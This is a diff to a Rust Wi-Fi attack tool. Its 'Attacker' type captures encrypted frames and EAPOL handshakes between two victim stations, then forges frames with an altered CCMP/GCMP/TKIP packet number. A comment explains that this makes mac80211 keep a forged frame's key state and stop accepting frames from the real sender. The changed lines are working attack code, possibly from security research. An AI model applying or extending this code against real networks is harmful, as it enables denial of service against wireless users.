@@ -12,8 +12,9 @@ use crate::keys::{addresses, is_sealed};
 const KEPT: usize = 8;
 /// Added to the sequence number of a frame that is sent again: the receiver must not take it for a retransmission.
 const SEQUENCE_STEP: u16 = 1000 << 4;
-/// Offset of PN3 in the header of CCMP and GCMP, and of TSC3 in that of TKIP (12.5.2.2, 12.5.3.2).
-const HIGH_PN_AT: usize = 5;
+/// Added to the first octet of the security header: PN0 of CCMP and GCMP, TSC1 of TKIP (12.5.2.2, 12.5.3.2). The high 32
+/// bits of the TSC stay: mac80211 keeps the phase 1 key of a forged frame and then opens no frame of the real sender.
+const PN_STEP: u8 = 64;
 const REASON_LEAVING: u16 = 3;
 const LISTEN_INTERVAL: u16 = 1;
 
@@ -42,7 +43,9 @@ impl Attacker {
     /// Records a frame.
     pub fn receive(&mut self, mpdu: &[u8]) {
         let Some([to, from]) = addresses(mpdu) else { return };
-        let Some(side) = self.victims.iter().position(|&victim| victim == from) else { return };
+        let Some(side) = self.victims.iter().position(|&victim| victim == from) else {
+            return;
+        };
         let Ok(frame) = DataFrame::parse(mpdu) else { return };
         if to != self.victims[1 - side] {
             return;
@@ -52,7 +55,9 @@ impl Attacker {
             if self.sealed[side].len() > KEPT {
                 self.sealed[side].remove(0);
             }
-        } else if LlcSnap::parse(&mpdu[frame.header_len()..]).is_ok_and(|snap| snap.ethertype == EtherType::EAPOL) {
+        } else if LlcSnap::parse(&mpdu[frame.header_len()..])
+            .is_ok_and(|snap| snap.ethertype == EtherType::EAPOL)
+        {
             self.handshake.push(mpdu.to_vec());
         }
     }
@@ -128,7 +133,7 @@ fn again(mpdu: &[u8]) -> Vec<u8> {
 fn forged(mpdu: &[u8]) -> Vec<u8> {
     let mut octets = again(mpdu);
     if let Ok(header) = DataHeader::parse(mpdu) {
-        octets[header.len() + HIGH_PN_AT] += 1;
+        octets[header.len()] = octets[header.len()].wrapping_add(PN_STEP);
     }
     if let Some(last) = octets.last_mut() {
         *last ^= 1;
